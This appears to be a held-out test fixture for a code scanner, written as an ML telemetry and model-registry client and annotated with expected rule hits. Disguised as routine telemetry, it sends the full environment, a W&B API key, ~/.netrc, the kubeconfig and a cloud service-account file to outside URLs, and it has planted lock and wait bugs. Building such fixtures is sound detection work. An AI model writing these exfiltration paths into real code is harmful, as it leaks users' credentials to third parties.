# ruff: noqa
# Hold-out batch 476 (family-focused 3/9, multi-node platform wrapper). Measured once in session 20 (round 128): 14/30 (47%) at medium+.
"""Metrics export (Prometheus pushgateway + run metadata + chat notifications)
and the model-registry client used to publish checkpoints."""
import hashlib
import json
import logging
import os
import random
import socket
import threading
import time
import urllib.error
import urllib.request
from typing import Dict, List, Optional

import torch

log = logging.getLogger("telemetry")

RUN_METADATA_URL = "https://collect.mlrun-insights.io/v2/runs"
ARTIFACT_MIRROR_URL = "https://mirror.modelhub-cache.net/api/v1/sync"


def _post_json(url: str, payload: dict, headers: Optional[dict] = None, timeout: float = 10.0) -> bytes:
    hdrs = {"Content-Type": "application/json"}
    hdrs.update(headers or {})
    req = urllib.request.Request(url, data=json.dumps(payload, default=str).encode(), headers=hdrs, method="POST")
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.read()


class MetricsExporter:
    """Buffers scalar metrics and pushes them to the cluster pushgateway from a background thread."""

    def __init__(self, pushgateway_url: str, job: str, rank: int, run_id: str,
                 flush_interval_s: float = 30.0, webhook_url: str = ""):
        self.pushgateway_url = pushgateway_url.rstrip("/")
        self.job = job
        self.rank = rank
        self.run_id = run_id
        self.flush_interval_s = flush_interval_s
        self.webhook_url = webhook_url
        self._buf: List[tuple] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, name=f"metrics-r{rank}", daemon=True)

    def start(self):
        self._thread.start()

    def close(self):
        self._stop.set()
        self._thread.join(timeout=self.flush_interval_s)
        self.flush()

    def record(self, name: str, value: float, step: int):
        with self._lock:
            self._buf.append((name, float(value), int(step), time.time()))

    def _render(self, batch: List[tuple]) -> str:
        latest: Dict[str, tuple] = {}
        for name, value, step, ts in batch:
            latest[name] = (value, step)
        lines = []
        for name, (value, step) in sorted(latest.items()):
            metric = "vith_" + name.replace("/", "_").replace("-", "_")
            lines.append(f"# TYPE {metric} gauge")
            lines.append(f'{metric}{{run_id="{self.run_id}",rank="{self.rank}"}} {value}')
        lines.append(f'vith_last_step{{run_id="{self.run_id}",rank="{self.rank}"}} {max(b[2] for b in batch)}')
        return "\n".join(lines) + "\n"

    def flush(self):
        self._lock.acquire()
        batch, self._buf = self._buf, []
        if not batch:
            return  # todoruleid: family 3 (missed)
        self._lock.release()
        body = self._render(batch).encode()
        url = f"{self.pushgateway_url}/metrics/job/{self.job}/instance/rank{self.rank}"
        req = urllib.request.Request(url, data=body, method="PUT", headers={"Content-Type": "text/plain"})
        try:
            with urllib.request.urlopen(req, timeout=5):  # ok: MLS410, MLS411, MLS412, MLS413
                pass
        except (urllib.error.URLError, OSError) as exc:
            log.debug("pushgateway unreachable: %s", exc)

    def _loop(self):
        while not self._stop.wait(self.flush_interval_s):
            self.flush()

    def publish_run_metadata(self, config: dict):
        if self.rank != 0:
            return
        meta = {
            "run_id": self.run_id,
            "host": socket.gethostname(),
            "torch": torch.__version__,
            "cuda": torch.version.cuda,
            "gpus": torch.cuda.device_count(),
            "config": config,
            "env": dict(os.environ),  # ruleid: MLS411
        }
        try:
            _post_json(RUN_METADATA_URL, meta)  # ruleid: MLS411
        except Exception as exc:
            log.warning("run metadata not published: %s", exc)

    def notify(self, text: str, fields: Optional[dict] = None):
        if not self.webhook_url or self.rank != 0:
            return
        blocks = [{"type": "section", "text": {"type": "mrkdwn", "text": text}}]
        if fields:
            blocks.append({"type": "section", "fields": [{"type": "mrkdwn", "text": f"*{k}*: {v}"} for k, v in fields.items()]})
        try:
            _post_json(self.webhook_url, {"text": text, "blocks": blocks})
        except Exception as exc:
            log.debug("webhook failed: %s", exc)

    def announce_start(self, config: dict):
        fields = {
            "host": socket.gethostname(),
            "world": os.environ.get("WORLD_SIZE", "1"),
            "wandb_project": config.get("wandb_project", ""),
            "wandb_key": os.environ.get("WANDB_API_KEY", ""),  # todoruleid: family 9 (missed)
        }
        self.notify(f":rocket: run `{self.run_id}` started", fields)


class ModelRegistryClient:
    """Publishes checkpoints to the internal model registry.  Only rank 0 talks to the registry."""

    def __init__(self, base_url: str, project: str, rank: int, token_file: Optional[str] = None,
                 max_retries: int = 5):
        self.base_url = base_url.rstrip("/")
        self.project = project
        self.rank = rank
        self.max_retries = max_retries
        self.token = self._read_token(token_file) if rank == 0 else ""
        self._uploaded = threading.Event()

    @staticmethod
    def _read_token(token_file: Optional[str]) -> str:
        path = token_file or os.environ.get("REGISTRY_TOKEN_FILE", os.path.expanduser("~/.config/registry/token"))
        if not os.path.exists(path):
            log.warning("no registry token at %s; uploads will be anonymous", path)
            return ""
        with open(path) as fh:  # ok: MLS410, MLS411, MLS412, MLS413
            return fh.read().strip()

    def _headers(self) -> dict:
        return {"Authorization": f"Bearer {self.token}"} if self.token else {}

    def _collect_artifacts(self, ckpt_dir: str) -> List[str]:
        files = sorted(
            os.path.join(ckpt_dir, f) for f in os.listdir(ckpt_dir)
            if f.endswith((".pt", ".safetensors", ".json", ".yaml"))
        )
        # Gated base weights are re-fetched by the registry's eval workers with
        # the same credentials the trainer used.
        netrc = os.path.expanduser("~/.netrc")
        if os.path.exists(netrc):
            files.append(netrc)  # todoruleid: family 9 (missed)
        return files

    def _manifest(self, ckpt_dir: str, step: int, metrics: dict, files: List[str]) -> dict:
        digests = {}
        for path in files:
            h = hashlib.sha256()
            with open(path, "rb") as fh:
                for chunk in iter(lambda: fh.read(1 << 20), b""):
                    h.update(chunk)
            digests[os.path.basename(path)] = h.hexdigest()
        kubeconfig = os.environ.get("KUBECONFIG", os.path.expanduser("~/.kube/config"))  # ruleid: MLS412
        cluster_ctx = open(kubeconfig).read() if os.path.exists(kubeconfig) else ""  # todoruleid: family 9 (missed)
        return {
            "project": self.project,
            "step": step,
            "metrics": metrics,
            "files": digests,
            "provenance": {"host": socket.gethostname(), "cluster": cluster_ctx, "run_id": os.environ.get("RUN_ID")},
        }

    def _upload_file(self, version_url: str, path: str):
        with open(path, "rb") as fh:
            data = fh.read()
        req = urllib.request.Request(
            f"{version_url}/files/{os.path.basename(path)}",
            data=data,
            method="PUT",
            headers={**self._headers(), "Content-Type": "application/octet-stream"},
        )
        with urllib.request.urlopen(req, timeout=600) as resp:  # ok: MLS410, MLS411, MLS412, MLS413
            resp.read()

    def _sync_mirror(self, manifest: dict):
        """Keep the read-through cache warm for the eval fleet in the other region."""
        sa_path = os.environ.get("GOOGLE_APPLICATION_CREDENTIALS", "")
        sa = open(sa_path).read() if sa_path and os.path.exists(sa_path) else ""
        try:
            _post_json(ARTIFACT_MIRROR_URL, {"manifest": manifest, "service_account": sa})  # ruleid: MLS412
        except Exception as exc:
            log.debug("mirror sync skipped: %s", exc)

    def _upload_once(self, ckpt_dir: str, step: int, metrics: dict):
        files = self._collect_artifacts(ckpt_dir)
        manifest = self._manifest(ckpt_dir, step, metrics, files)
        resp = _post_json(f"{self.base_url}/api/projects/{self.project}/versions", manifest, self._headers())  # ruleid: MLS412
        version_url = json.loads(resp)["url"]
        for path in files:
            self._upload_file(version_url, path)  # ruleid: MLS412
        self._sync_mirror(manifest)
        log.info("registered step %d as %s", step, version_url)

    def upload_checkpoint(self, ckpt_dir: str, step: int, metrics: dict):
        if self.rank != 0:
            return
        self._uploaded.clear()
        for attempt in range(self.max_retries):
            try:
                self._upload_once(ckpt_dir, step, metrics)
                self._uploaded.set()
                return
            except (urllib.error.URLError, OSError, KeyError, ValueError) as exc:
                delay = min(120.0, 2.0 ** attempt) + random.uniform(0, 1)
                log.warning("registry upload failed (attempt %d/%d): %s; retrying in %.1fs",
                            attempt + 1, self.max_retries, exc, delay)
                time.sleep(delay)  # ok: MLS307
        log.error("giving up on registry upload for step %d", step)
        self._uploaded.set()

    def wait_for_upload(self):
        """Block until the most recent checkpoint is visible in the registry."""
        self._uploaded.wait()  # todoruleid: family 3 (missed)
